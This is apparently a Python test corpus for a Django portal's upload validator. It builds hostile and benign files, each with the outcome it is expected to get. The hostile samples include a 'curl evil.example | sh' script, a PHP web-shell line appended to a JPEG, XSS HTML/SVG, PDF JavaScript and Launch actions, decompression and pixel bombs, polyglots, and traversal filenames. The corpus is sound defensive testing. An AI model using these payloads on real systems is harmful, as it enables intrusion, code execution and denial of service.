"""The upload corpus (SECURITY.md L6): hostile and benign files, all built in code at test time, no binaries committed.

``MANIFEST`` lists every file with the outcome it must have:
- REJECTED: ``validate_upload`` refuses it with exactly ``message``;
- NEUTRALISED: a hostile file that is accepted, but what is stored differs from what was sent, parses as exactly one
  allowed type, and no longer holds ``payload`` (and its name is stored as ``stored_name``);
- ACCEPTED: a benign file, stored and still viewable.
"""

import io
import zipfile
import zlib
from dataclasses import dataclass
from functools import cache
from typing import Callable

import pikepdf
from django.conf import settings
from django.core.files.uploadedfile import SimpleUploadedFile
from pikepdf import Array, Dictionary, Name, String
from PIL import Image, ImageDraw
from reportlab.lib.pagesizes import letter
from reportlab.lib.utils import ImageReader
from reportlab.pdfgen import canvas

from accounts import uploads as u
from tests.clamav_signatures import EICAR

REJECTED, NEUTRALISED, ACCEPTED = "rejected", "neutralised", "accepted"
MB = 1024 * 1024
LIMIT = settings.UPLOAD_MAX_BYTES


@dataclass(frozen=True)
class Sample:
    id: str
    klass: str
    filename: str
    build: Callable[[], bytes]
    expect: str
    message: str | None = None  # REJECTED: the exact message the member sees
    payload: bytes | None = None  # NEUTRALISED / ACCEPTED: bytes that must not reach storage
    stored_name: str | None = None  # the sanitised original name expected on the Document
    claimed_type: str = "application/octet-stream"  # what the browser says; it must never matter
    content_type: str | None = None  # the type it must be stored as, when accepted

    @property
    def hostile(self):
        return self.expect != ACCEPTED

    def upload(self):
        return SimpleUploadedFile(self.filename, self.build(), content_type=self.claimed_type)


# ---------------------------------------------------------------------------------------------------------------
# Building blocks
# ---------------------------------------------------------------------------------------------------------------

HTML = b"<!DOCTYPE html><html><body><script>fetch('/documents/').then(r=>r.text()).then(alert)</script></body></html>"
SVG = (b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
       b"<script>alert(document.domain)</script></svg>")
EXE = (b"MZ\x90\x00\x03" + b"\x00" * 55 + b"\x80\x00\x00\x00" + b"\x00" * 64
       + b"This program cannot be run in DOS mode.\r\r\n$" + b"\x00" * 20 + b"PE\x00\x00\x4c\x01")
ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x3e\x00\x01\x00\x00\x00" + b"\x00" * 40


def picture(size=(640, 480), mode="RGB"):
    """A page-like picture with a red top-left and a blue bottom-right corner, so a wrong rotation shows."""
    width, height = size
    image = Image.new("RGB", size, (245, 245, 240))
    draw = ImageDraw.Draw(image)
    draw.rectangle([0, 0, width // 4, height // 4], fill=(200, 0, 0))
    draw.rectangle([width - width // 4, height - height // 4, width, height], fill=(0, 0, 200))
    for y in range(height // 3, height - height // 4, 14):
        draw.line([(width // 8, y), (width - width // 8, y)], fill=(40, 40, 40), width=2)
    return image if mode == "RGB" else image.convert(mode)


def jpeg(size=(640, 480), *, mode="RGB", orientation=None, make=None, gps=False, description=None,
         progressive=False, comment=None):
    exif = Image.Exif()
    if orientation:
        exif[0x0112] = orientation
    if make:
        exif[0x010F] = make
    if description:
        exif[0x010E] = description
    if gps:
        exif.get_ifd(0x8825).update({1: "N", 2: (42.0, 43.0, 58.2), 3: "W", 4: (84.0, 33.0, 20.1)})
    out = io.BytesIO()
    extra = {"comment": comment} if comment else {}
    picture(size, mode).save(out, format="JPEG", quality=92, exif=exif.tobytes(), progressive=progressive, **extra)
    return out.getvalue()


def png(size=(800, 600), *, mode="RGB", text=None):
    from PIL.PngImagePlugin import PngInfo

    info = PngInfo()
    for key, value in (text or {}).items():
        info.add_text(key, value)
    image = picture(size)
    if mode == "P":
        image = image.convert("P", palette=Image.Palette.ADAPTIVE, colors=16)
        image.info["transparency"] = 0
    elif mode == "I;16":
        image = image.convert("L").convert("I").point(lambda v: v * 256).convert("I;16")
    elif mode != "RGB":
        image = image.convert(mode)
    out = io.BytesIO()
    image.save(out, format="PNG", pnginfo=info)
    return out.getvalue()


def png_chunk(kind, data):
    return len(data).to_bytes(4, "big") + kind + data + zlib.crc32(kind + data).to_bytes(4, "big")


def png_declaring(width, height):
    """A well-formed PNG whose header declares ``width`` x ``height``; its pixel data is a few bytes."""
    header = width.to_bytes(4, "big") + height.to_bytes(4, "big") + bytes([8, 2, 0, 0, 0])
    return (b"\x89PNG\r\n\x1a\n" + png_chunk(b"IHDR", header) + png_chunk(b"IDAT", zlib.compress(b"\x00" * 64))
            + png_chunk(b"IEND", b""))


def png_with_chunk(kind, data):
    """A real PNG with one extra chunk inserted before IEND."""
    body = png(size=(320, 240))
    return body[:-12] + png_chunk(kind, data) + body[-12:]


def jpeg_declaring(width, height):
    """A real small JPEG with the frame header patched to declare ``width`` x ``height``."""
    data = bytearray(jpeg(size=(64, 48)))
    sof = data.index(b"\xff\xc0")
    data[sof + 5:sof + 9] = height.to_bytes(2, "big") + width.to_bytes(2, "big")
    return bytes(data)


@cache
def letter_pdf(pages=1):
    """A text letter, as ReportLab (our own letters) writes it."""
    out = io.BytesIO()
    pdf = canvas.Canvas(out, pagesize=letter)
    for number in range(pages):
        pdf.drawString(72, 720, "Office of Retirement Services")
        pdf.drawString(72, 700, f"Proof of marriage, page {number + 1}")
        pdf.showPage()
    pdf.save()
    return out.getvalue()


@cache
def scanned_pdf(pages):
    """A scanner's PDF: each page one grey JPEG with noise, like a 100 dpi scan."""
    page = Image.blend(picture((850, 1100)).convert("L"), Image.effect_noise((850, 1100), 40), 0.15)
    scan = io.BytesIO()
    page.save(scan, format="JPEG", quality=70)
    out = io.BytesIO()
    pdf = canvas.Canvas(out, pagesize=letter)
    for _ in range(pages):
        pdf.drawImage(ImageReader(io.BytesIO(scan.getvalue())), 0, 0, width=612, height=792)
        pdf.showPage()
    pdf.save()
    return out.getvalue()


def pdf_with(change):
    """The one-page letter, changed through pikepdf by ``change(pdf)``."""
    with pikepdf.open(io.BytesIO(letter_pdf())) as pdf:
        change(pdf)
        out = io.BytesIO()
        pdf.save(out)
        return out.getvalue()


def encrypted_pdf(**encryption):
    with pikepdf.open(io.BytesIO(letter_pdf())) as pdf:
        out = io.BytesIO()
        pdf.save(out, encryption=pikepdf.Encryption(owner="owner-secret", **encryption))
        return out.getvalue()


def stream(data, extra=b""):
    return b"<< /Length %d %s >>\nstream\n" % (len(data), extra) + data + b"\nendstream"


PAGE_OBJECTS = [
    b"<< /Type /Catalog /Pages 2 0 R >>",
    b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << >> /Contents 4 0 R >>",
    stream(b"72 72 m 540 720 l S"),
]


def raw_pdf(objects, header=b"%\xe2\xe3\xcf\xd3\n"):
    """A PDF written byte by byte, with a correct cross-reference table: for what pikepdf would not write."""
    out = bytearray(b"%PDF-1.7\n" + header)
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return bytes(out)


def raw_pdf_pages(count):
    kids = b" ".join(b"%d 0 R" % (4 + n) for n in range(count))
    objects = [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [%s] /Count %d >>" % (kids, count),
               stream(b"72 72 m 540 720 l S")]
    objects += [b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << >> /Contents 3 0 R >>"] * count
    return raw_pdf(objects)


def padded_pdf(total):
    """A valid PDF of exactly ``total`` bytes: the padding is an orphan stream that re-saving drops."""
    pad = 0
    for _ in range(4):
        data = raw_pdf([*PAGE_OBJECTS, stream(b"\x00" * pad)])
        pad += total - len(data)
    assert len(data) == total
    return data


@cache
def zero_flate(total, prefix=b""):
    """A valid zlib stream of ``prefix`` then ``total`` zero bytes (whole MiBs), built in milliseconds.

    The deflate block for one MiB after a full flush does not refer back, so it can be repeated; zero bytes leave
    Adler-32's A sum unchanged and add A to its B sum once per byte.
    """
    compressor, chunk = zlib.compressobj(9), b"\x00" * MB
    head = compressor.compress(prefix + chunk) + compressor.flush(zlib.Z_FULL_FLUSH)
    block = compressor.compress(chunk) + compressor.flush(zlib.Z_FULL_FLUSH)
    final_empty_block = b"\x03\x00"
    start = zlib.adler32(prefix)
    a_sum, b_sum = start & 0xFFFF, ((start >> 16) + (start & 0xFFFF) * total) % 65521
    return head + block * (total // MB - 1) + final_empty_block + (b_sum << 16 | a_sum).to_bytes(4, "big")


def flate_bomb_pdf(*, orphan):
    bomb = stream(zero_flate(1024 * MB), b"/Filter /FlateDecode")
    if orphan:
        return raw_pdf([*PAGE_OBJECTS, bomb])
    return raw_pdf([*PAGE_OBJECTS[:3], bomb])


def object_stream_pdf(*, inflated=1024 * MB, nested=False):
    """A PDF 1.5 whose catalog sits in an object stream padded to ``inflated`` bytes: qpdf inflates it as it parses."""
    data = zero_flate(inflated, prefix=b"2 0 << /Type /Catalog /Pages 3 0 R >>")
    filters = b"/FlateDecode"
    if nested:
        data, filters = zlib.compress(data, 9), b"[/FlateDecode /FlateDecode]"
    out, offsets = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"), {}
    for number, body in ((1, b"<< /Type /ObjStm /N 1 /First 4 /Filter %s /Length %d >>\nstream\n%s\nendstream"
                              % (filters, len(data), data)),
                         (3, b"<< /Type /Pages /Kids [4 0 R] /Count 1 >>"),
                         (4, b"<< /Type /Page /Parent 3 0 R /MediaBox [0 0 612 792] /Resources << >> >>")):
        offsets[number] = len(out)
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    offsets[5] = len(out)
    rows = [(0, 0, 65535), (1, offsets[1], 0), (2, 1, 0), (1, offsets[3], 0), (1, offsets[4], 0), (1, offsets[5], 0)]
    table = b"".join(bytes([kind]) + field.to_bytes(4, "big") + index.to_bytes(2, "big") for kind, field, index in rows)
    out += b"5 0 obj\n<< /Type /XRef /Size 6 /Root 2 0 R /W [1 4 2] /Length %d >>\nstream\n" % len(table)
    out += table + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % offsets[5]
    return bytes(out)


def zip_archive(name="META-INF/MANIFEST.MF", body=b"Manifest-Version: 1.0\nMain-Class: Evil\n"):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr(name, body)
        archive.writestr("Evil.class", b"\xca\xfe\xba\xbe" + b"\x00" * 32)
    return out.getvalue()


def mpo():
    """A phone's multi-picture JPEG (MPF): the main picture, then a second complete JPEG after it."""
    out = io.BytesIO()
    picture().save(out, format="MPO", save_all=True, append_images=[picture((320, 240))])
    return out.getvalue()


def other_format(fmt):
    out = io.BytesIO()
    picture((64, 48)).save(out, format=fmt)
    return out.getvalue()


def letter_then(suffix):
    return lambda: letter_pdf() + suffix


def with_startxref_again(extra):
    """The letter, ``extra`` appended, then its own startxref and %%EOF again so the file still ends like a PDF."""
    def build():
        data = letter_pdf()
        offset = data[data.rindex(b"startxref"):].split()[1]
        return data + extra + b"\nstartxref\n" + offset + b"\n%%EOF\n"
    return build


def annotated(annotation):
    def change(pdf):
        annot = pdf.make_indirect(Dictionary(Type=Name.Annot, Rect=Array([72, 72, 200, 100]), **annotation(pdf)))
        pdf.pages[0].obj.Annots = pdf.make_indirect(Array([annot]))
        if annot.Subtype == Name.Widget:
            pdf.Root.AcroForm = pdf.make_indirect(Dictionary(Fields=Array([annot])))
    return lambda: pdf_with(change)


def _attach(pdf):
    pdf.attachments["payload.exe"] = pikepdf.AttachedFileSpec(pdf, EXE)


def _xfa(pdf):
    pdf.Root.AcroForm = pdf.make_indirect(Dictionary(Fields=Array(), XFA=pdf.make_stream(b"<xdp:xdp/>")))


def _js_open(pdf):
    pdf.Root.OpenAction = Dictionary(S=Name.JavaScript, JS=String("app.alert('hi')"))


def _js_names(pdf):
    action = pdf.make_indirect(Dictionary(S=Name.JavaScript, JS=String("this.exportDataObject({cName:'a'})")))
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("init"), action])))


def _open_goto(pdf):
    pdf.Root.OpenAction = Array([pdf.pages[0].obj, Name.Fit])


def _page_aa(pdf):
    pdf.pages[0].obj.AA = Dictionary(O=Dictionary(S=Name.URI, URI=String("https://evil.example/track")))


# ---------------------------------------------------------------------------------------------------------------
# The manifest
# ---------------------------------------------------------------------------------------------------------------

NOT_ALLOWED, EMPTY, VIRUS, ENCRYPTED, ACTIVE = u.NOT_ALLOWED, u.EMPTY, u.VIRUS, u.ENCRYPTED, u.ACTIVE_CONTENT
COMPLEX = u.PDF_TOO_COMPLEX
TOO_LARGE = u.TOO_LARGE.format(max_mb=LIMIT // MB)
PAGES = u.TOO_MANY_PAGES.format(max_pages=u.UPLOAD_POLICY.max_pdf_pages)
PIXELS = u.TOO_MANY_PIXELS.format(max_mp=u.UPLOAD_POLICY.max_image_pixels // 1_000_000)
LABEL = {u.PDF: "PDF", u.JPEG: "JPEG picture", u.PNG: "PNG picture"}


def hidden(kind):
    return u.HIDDEN_DATA.format(label=LABEL[kind])


def damaged(kind):
    return u.DAMAGED.format(label=LABEL[kind])


def mismatch(kind):
    endings = {u.PDF: ".pdf", u.JPEG: ".jpg or .jpeg", u.PNG: ".png"}[kind]
    return u.NAME_MISMATCH.format(label=LABEL[kind], endings=endings)


def rejected(id, klass, filename, build, message, **extra):
    return Sample(id, klass, filename, build, REJECTED, message=message, **extra)


def neutralised(id, klass, filename, build, content_type, **extra):
    return Sample(id, klass, filename, build, NEUTRALISED, content_type=content_type, **extra)


def accepted(id, klass, filename, build, content_type, **extra):
    return Sample(id, klass, filename, build, ACCEPTED, content_type=content_type, **extra)


HOSTILE = [
    # Executables and scripts under a document's name (FI-3).
    rejected("exe-as-pdf", "renamed executable", "statement.pdf", lambda: EXE, NOT_ALLOWED,
             claimed_type="application/pdf"),
    rejected("elf-as-png", "renamed executable", "screenshot.png", lambda: ELF, NOT_ALLOWED, claimed_type="image/png"),
    rejected("exe-as-jpg", "renamed executable", "photo.jpg", lambda: EXE, NOT_ALLOWED, claimed_type="image/jpeg"),
    rejected("shell-script-as-pdf", "renamed executable", "form.pdf", lambda: b"#!/bin/sh\ncurl evil.example | sh\n",
             NOT_ALLOWED),
    # Web pages under a document's name: would run in the portal's origin if ever rendered.
    rejected("html-as-pdf", "renamed html", "letter.pdf", lambda: HTML, NOT_ALLOWED, claimed_type="application/pdf"),
    rejected("html-as-png", "renamed html", "scan.png", lambda: HTML, NOT_ALLOWED, claimed_type="image/png"),
    rejected("html-as-jpg", "renamed html", "scan.jpg", lambda: HTML, NOT_ALLOWED, claimed_type="image/jpeg"),
    rejected("html-with-pdf-header-later", "renamed html", "letter.pdf",
             lambda: b"<html><!-- %PDF-1.7 -->" + HTML + letter_pdf(), NOT_ALLOWED),
    rejected("svg-as-png", "svg with script", "logo.png", lambda: SVG, NOT_ALLOWED, claimed_type="image/png"),
    rejected("svg-as-jpg", "svg with script", "logo.jpg", lambda: SVG, NOT_ALLOWED, claimed_type="image/jpeg"),
    rejected("svg-as-pdf", "svg with script", "logo.pdf", lambda: SVG, NOT_ALLOWED, claimed_type="application/pdf"),
    rejected("svg-as-svg", "svg with script", "logo.svg", lambda: SVG, NOT_ALLOWED, claimed_type="image/svg+xml"),
    # PDF polyglots (FI-10).
    rejected("pdf-plus-zip", "pdf polyglot", "letter.pdf", letter_then(zip_archive()), hidden(u.PDF)),
    rejected("pdf-plus-html", "pdf polyglot", "letter.pdf", letter_then(HTML), hidden(u.PDF)),
    rejected("pdf-plus-zip-then-eof", "pdf polyglot", "letter.pdf", letter_then(zip_archive() + b"\n%%EOF\n"),
             hidden(u.PDF)),
    neutralised("pdf-html-in-header-comment", "pdf polyglot", "letter.pdf",
                lambda: raw_pdf(PAGE_OBJECTS, header=b"%" + HTML + b"\n"), u.PDF, payload=b"<script>"),
    neutralised("pdf-html-then-startxref", "pdf polyglot", "letter.pdf", with_startxref_again(b"\n" + HTML), u.PDF,
                payload=b"<script>"),
    # JPEG polyglots.
    rejected("jpeg-plus-html", "jpeg polyglot", "photo.jpg", lambda: jpeg() + HTML, hidden(u.JPEG)),
    rejected("jpeg-plus-script", "jpeg polyglot", "photo.jpg", lambda: jpeg() + b"<script>alert(1)</script>",
             hidden(u.JPEG)),
    rejected("jpeg-plus-php", "jpeg polyglot", "photo.jpg", lambda: jpeg() + b"<?php system($_GET['c']); ?>",
             hidden(u.JPEG)),
    neutralised("jpeg-html-in-comment", "jpeg polyglot", "photo.jpg", lambda: jpeg(comment=HTML), u.JPEG,
                payload=b"<script>"),
    neutralised("jpeg-html-in-exif", "jpeg polyglot", "photo.jpg", lambda: jpeg(description=HTML.decode()), u.JPEG,
                payload=b"<script>"),
    # GIFAR-style: a picture that is also a Java archive.
    rejected("gif-plus-jar", "gifar", "avatar.png", lambda: other_format("GIF") + zip_archive(), NOT_ALLOWED),
    rejected("png-plus-jar", "gifar", "avatar.png", lambda: png() + zip_archive(), hidden(u.PNG)),
    rejected("jpeg-plus-jar", "gifar", "avatar.jpg", lambda: jpeg() + zip_archive(), hidden(u.JPEG)),
    rejected("png-jar-in-chunk", "gifar", "avatar.png", lambda: png_with_chunk(b"jaRx", zip_archive()),
             hidden(u.PNG)),
    # PDF JavaScript.
    rejected("pdf-js-open-action", "pdf javascript", "form.pdf", lambda: pdf_with(_js_open), ACTIVE),
    rejected("pdf-js-names-tree", "pdf javascript", "form.pdf", lambda: pdf_with(_js_names), ACTIVE),
    rejected("pdf-js-hex-escaped-names", "pdf javascript", "form.pdf", lambda: raw_pdf([
        *PAGE_OBJECTS[:2], b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << >> /Contents 4 0 R "
                           b"/Annots [5 0 R] >>", PAGE_OBJECTS[3],
        b"<< /Type /Annot /Subtype /Link /Rect [0 0 99 99] /A << /S /Java#53cript /J#53 (app.alert(1)) >> >>"]),
             ACTIVE),
    rejected("pdf-js-in-orphan-object", "pdf javascript", "form.pdf",
             lambda: raw_pdf([*PAGE_OBJECTS, b"<< /S /JavaScript /JS (app.alert(1)) >>"]), ACTIVE),
    # PDF actions that run by themselves or start programs.
    rejected("pdf-open-action-goto", "pdf action", "letter.pdf", lambda: pdf_with(_open_goto), ACTIVE),
    rejected("pdf-launch-link", "pdf action", "letter.pdf", annotated(lambda pdf: {
        "Subtype": Name.Link, "A": Dictionary(S=Name.Launch, F=String("cmd.exe"))}), ACTIVE),
    rejected("pdf-page-additional-action", "pdf action", "letter.pdf", lambda: pdf_with(_page_aa), ACTIVE),
    rejected("pdf-submit-form", "pdf action", "letter.pdf", annotated(lambda pdf: {
        "Subtype": Name.Widget, "FT": Name.Btn,
        "A": Dictionary(S=Name.SubmitForm, F=String("https://evil.example/collect"))}), ACTIVE),
    # PDFs carrying other files or form programs.
    rejected("pdf-embedded-file", "pdf embedded file", "letter.pdf", lambda: pdf_with(_attach), ACTIVE),
    rejected("pdf-file-attachment-annotation", "pdf embedded file", "letter.pdf", annotated(lambda pdf: {
        "Subtype": Name.FileAttachment, "FS": Dictionary(Type=Name.Filespec, F=String("a.exe"),
                                                         EF=Dictionary(F=pdf.make_stream(EXE)))}), ACTIVE),
    rejected("pdf-rich-media", "pdf embedded file", "letter.pdf", annotated(lambda pdf: {
        "Subtype": Name.RichMedia, "RichMediaContent": Dictionary()}), ACTIVE),
    rejected("pdf-xfa-form", "pdf embedded file", "letter.pdf", lambda: pdf_with(_xfa), ACTIVE),
    # Encrypted PDFs: nothing inside can be checked.
    rejected("pdf-aes256-user-password", "encrypted pdf", "letter.pdf", lambda: encrypted_pdf(user="1234", R=6),
             ENCRYPTED),
    rejected("pdf-rc4-user-password", "encrypted pdf", "letter.pdf",
             lambda: encrypted_pdf(user="1234", R=3, aes=False, metadata=False), ENCRYPTED),
    rejected("pdf-aes128-owner-only", "encrypted pdf", "letter.pdf", lambda: encrypted_pdf(user="", R=4),
             ENCRYPTED),
    rejected("pdf-aes256-owner-only", "encrypted pdf", "letter.pdf", lambda: encrypted_pdf(user="", R=6), ENCRYPTED),
    # Picture bombs (FI-4): refused from the header, before any decoding.
    rejected("png-30000x30000", "image bomb", "scan.png", lambda: png_declaring(30000, 30000), PIXELS),
    rejected("png-48-megapixels", "image bomb", "scan.png", lambda: png_declaring(8000, 6000), PIXELS),
    rejected("jpeg-65000x65000", "image bomb", "photo.jpg", lambda: jpeg_declaring(65000, 65000), PIXELS),
    rejected("jpeg-48-megapixels", "image bomb", "photo.jpg", lambda: jpeg_declaring(8000, 6000), PIXELS),
    # PDF decompression bombs and streams we cannot bound.
    rejected("pdf-1gib-flate-page", "flate bomb", "letter.pdf", lambda: flate_bomb_pdf(orphan=False), COMPLEX),
    rejected("pdf-1gib-flate-orphan", "flate bomb", "letter.pdf", lambda: flate_bomb_pdf(orphan=True), COMPLEX),
    rejected("pdf-double-flate", "flate bomb", "letter.pdf", lambda: raw_pdf([*PAGE_OBJECTS, stream(
        zlib.compress(zero_flate(1024 * MB), 9), b"/Filter [/FlateDecode /FlateDecode]")]), COMPLEX),
    rejected("pdf-1gib-object-stream", "flate bomb", "letter.pdf", object_stream_pdf,
             COMPLEX),
    rejected("pdf-nested-flate-object-stream", "flate bomb", "letter.pdf",
             lambda: object_stream_pdf(nested=True), COMPLEX),
    rejected("pdf-lzw-stream", "flate bomb", "letter.pdf",
             lambda: raw_pdf([*PAGE_OBJECTS, stream(b"\x80\x0b\x60\x50", b"/Filter /LZWDecode")]), COMPLEX),
    rejected("pdf-image-20000x20000", "flate bomb", "letter.pdf", lambda: raw_pdf([*PAGE_OBJECTS, stream(
        b"\xff\xd8\xff\xd9", b"/Type /XObject /Subtype /Image /Width 20000 /Height 20000 /ColorSpace /DeviceRGB "
                             b"/BitsPerComponent 8 /Filter /DCTDecode")]), COMPLEX),
    # Page caps.
    rejected("pdf-51-pages", "page cap", "letter.pdf", lambda: letter_pdf(51), PAGES),
    rejected("pdf-5000-pages", "page cap", "letter.pdf", lambda: raw_pdf_pages(5000), PAGES),
    # Truncated and broken files.
    rejected("jpeg-cut-in-half", "truncated", "photo.jpg", lambda: jpeg()[:len(jpeg()) // 2], damaged(u.JPEG)),
    rejected("jpeg-without-end", "truncated", "photo.jpg", lambda: jpeg()[:-2], damaged(u.JPEG)),
    rejected("png-cut-short", "truncated", "scan.png", lambda: png()[:-200], damaged(u.PNG)),
    rejected("pdf-cut-in-half", "truncated", "letter.pdf", lambda: letter_pdf()[:len(letter_pdf()) // 2],
             damaged(u.PDF)),
    rejected("pdf-broken-xref", "truncated", "letter.pdf",
             lambda: raw_pdf(PAGE_OBJECTS).replace(b"1 0 obj", b"1  0 obj", 1), damaged(u.PDF)),
    # Empty and oversized (FI-2).
    rejected("empty-pdf", "empty", "letter.pdf", lambda: b"", EMPTY),
    rejected("empty-jpg", "empty", "photo.jpg", lambda: b"", EMPTY),
    rejected("empty-png", "empty", "scan.png", lambda: b"", EMPTY),
    rejected("pdf-limit-plus-one-byte", "oversize", "letter.pdf", lambda: padded_pdf(LIMIT + 1), TOO_LARGE),
    rejected("fifty-mb-body", "oversize", "letter.pdf", lambda: b"%PDF-1.7\n" + b"\x00" * (50 * MB), TOO_LARGE),
    # The antivirus hook (FI-9).
    rejected("eicar-as-pdf", "eicar", "eicar.pdf", lambda: EICAR, VIRUS),
    rejected("eicar-in-pdf-stream", "eicar", "letter.pdf", lambda: raw_pdf([*PAGE_OBJECTS, stream(EICAR)]), VIRUS),
    rejected("eicar-in-png-text", "eicar", "scan.png", lambda: png(text={"Comment": EICAR.decode()}), VIRUS),
    rejected("eicar-after-jpeg", "eicar", "photo.jpg", lambda: jpeg() + EICAR, VIRUS),
    # Hostile names (FI-6): the name is only metadata, cleaned; a disguised ending is refused.
    neutralised("windows-path-traversal-name", "hostile name", "..\\..\\Windows\\System32\\report.pdf", letter_pdf,
                u.PDF, stored_name="report.pdf"),
    neutralised("nul-in-name", "hostile name", "statement\x00.pdf", letter_pdf, u.PDF, stored_name="statement.pdf"),
    neutralised("300-character-name", "hostile name", "A" * 296 + ".pdf", letter_pdf, u.PDF,
                stored_name="A" * 116 + ".pdf"),
    neutralised("rtl-override-name", "hostile name", "photo\u202egpj.png", lambda: png(text={"Author": "SecretAuthor"}),
                u.PNG, stored_name="photogpj.png", payload=b"SecretAuthor"),
    neutralised("newline-in-name", "hostile name", "proof\r\nContent-Type: image.jpg", lambda: jpeg(make="SecretCam"),
                u.JPEG, stored_name="proofContent-Type: image.jpg", payload=b"SecretCam"),
    rejected("rtl-override-hides-exe", "hostile name", "invoice\u202egnp.exe", png, mismatch(u.PNG)),
    rejected("nul-hides-exe", "hostile name", "statement.pdf\x00.exe", letter_pdf, mismatch(u.PDF)),
    # Double extensions.
    rejected("html-as-pdf-html", "double extension", "statement.pdf.html", lambda: HTML, NOT_ALLOWED),
    rejected("pdf-as-pdf-exe", "double extension", "statement.pdf.exe", letter_pdf, mismatch(u.PDF)),
    rejected("jpeg-as-jpg-pdf", "double extension", "photo.jpg.pdf", jpeg, mismatch(u.JPEG)),
    neutralised("png-as-php-png", "double extension", "shell.php.png", lambda: png(text={"Comment": "<?php ?>"}),
                u.PNG, stored_name="shell.php.png", payload=b"<?php"),
    # Name and content disagree, or a type we do not take.
    rejected("png-named-pdf", "mismatch", "scan.pdf", png, mismatch(u.PNG), claimed_type="application/pdf"),
    rejected("pdf-named-jpg", "mismatch", "letter.jpg", letter_pdf, mismatch(u.PDF), claimed_type="image/jpeg"),
    rejected("jpeg-named-png", "mismatch", "photo.png", jpeg, mismatch(u.JPEG), claimed_type="image/png"),
    rejected("pdf-without-extension", "mismatch", "letter", letter_pdf, mismatch(u.PDF)),
    rejected("gif-as-png", "other type", "scan.png", lambda: other_format("GIF"), NOT_ALLOWED),
    rejected("zip-as-pdf", "other type", "letter.pdf", zip_archive, NOT_ALLOWED),
    rejected("text-as-pdf", "other type", "letter.pdf", lambda: b"Dear Sir, please find my proof.\n", NOT_ALLOWED),
    rejected("webp-as-jpg", "other type", "photo.jpg", lambda: other_format("WEBP"), NOT_ALLOWED),
    rejected("bmp-as-jpg", "other type", "photo.jpg", lambda: other_format("BMP"), NOT_ALLOWED),
    rejected("tiff-as-jpg", "other type", "photo.jpg", lambda: other_format("TIFF"), NOT_ALLOWED),
]

BENIGN = [
    # Phone photos: EXIF orientation applied, EXIF (camera, GPS) removed.
    accepted("phone-jpeg-orientation-6", "phone photo", "IMG_0001.jpg", lambda: jpeg(orientation=6, make="SecretCam"),
             u.JPEG, payload=b"SecretCam", claimed_type="image/jpeg"),
    accepted("phone-jpeg-orientation-3", "phone photo", "IMG_0002.jpg", lambda: jpeg(orientation=3), u.JPEG),
    accepted("phone-jpeg-orientation-8", "phone photo", "IMG_0003.jpg", lambda: jpeg(orientation=8), u.JPEG),
    accepted("phone-jpeg-with-gps", "phone photo", "IMG_0004.JPG", lambda: jpeg(make="SecretCam", gps=True), u.JPEG,
             payload=b"SecretCam"),
    accepted("progressive-jpeg", "phone photo", "birth certificate.jpeg", lambda: jpeg(progressive=True), u.JPEG),
    accepted("greyscale-jpeg", "phone photo", "scan.jpg", lambda: jpeg(mode="L"), u.JPEG),
    accepted("cmyk-jpeg", "phone photo", "print.jpg", lambda: jpeg(mode="CMYK"), u.JPEG),
    accepted("jpeg-with-appended-gain-map", "phone photo", "IMG_0005.jpg",
             lambda: jpeg() + jpeg(size=(160, 120)), u.JPEG),
    accepted("phone-multi-picture-jpeg", "phone photo", "IMG_0007.jpg", mpo, u.JPEG),
    accepted("large-phone-jpeg", "phone photo", "IMG_0006.jpg", lambda: jpeg(size=(4032, 3024), orientation=6),
             u.JPEG),
    # Screenshots.
    accepted("png-screenshot", "screenshot", "Screenshot 2026-03-01 at 10.15.02.png", png, u.PNG,
             claimed_type="image/png"),
    accepted("png-screenshot-with-alpha", "screenshot", "screenshot.png", lambda: png(mode="RGBA"), u.PNG),
    accepted("png-palette-with-transparency", "screenshot", "chart.png", lambda: png(mode="P"), u.PNG),
    accepted("png-16-bit-greyscale", "screenshot", "xray.png", lambda: png(mode="I;16"), u.PNG),
    accepted("png-with-text-chunks", "screenshot", "screenshot.png",
             lambda: png(text={"Author": "SecretAuthor", "Software": "Snipping Tool"}), u.PNG, payload=b"SecretAuthor"),
    # PDFs.
    accepted("text-letter-pdf", "pdf", "letter.pdf", letter_pdf, u.PDF, claimed_type="application/pdf"),
    accepted("scanned-pdf-3-pages", "scanned pdf", "marriage certificate.pdf", lambda: scanned_pdf(3), u.PDF),
    accepted("scanned-pdf-50-pages", "scanned pdf", "divorce judgment.pdf", lambda: scanned_pdf(50), u.PDF),
    accepted("pdf-with-trailing-newlines", "pdf", "letter.pdf", letter_then(b"\r\n\x00\x00\r\n"), u.PDF),
    accepted("pdf-with-object-streams", "pdf", "letter.pdf", lambda: object_stream_pdf(inflated=MB), u.PDF),
    accepted("pdf-exactly-at-size-limit", "pdf", "letter.pdf", lambda: padded_pdf(LIMIT), u.PDF),
    accepted("pdf-with-web-link", "pdf", "letter.pdf", annotated(lambda pdf: {
        "Subtype": Name.Link, "A": Dictionary(S=Name.URI, URI=String("https://www.michigan.gov/ors"))}), u.PDF),
    accepted("pdf-unicode-name", "pdf", "Überweisung – März 2026.pdf", letter_pdf, u.PDF,
             stored_name="Überweisung – März 2026.pdf"),
]

MANIFEST = HOSTILE + BENIGN

# Files built to exhaust the checker (SECURITY.md FI-4): refused, each within two seconds (tests/benchmarks).
BOMBS = [sample for sample in HOSTILE if sample.klass in {"image bomb", "flate bomb", "page cap", "oversize"}]
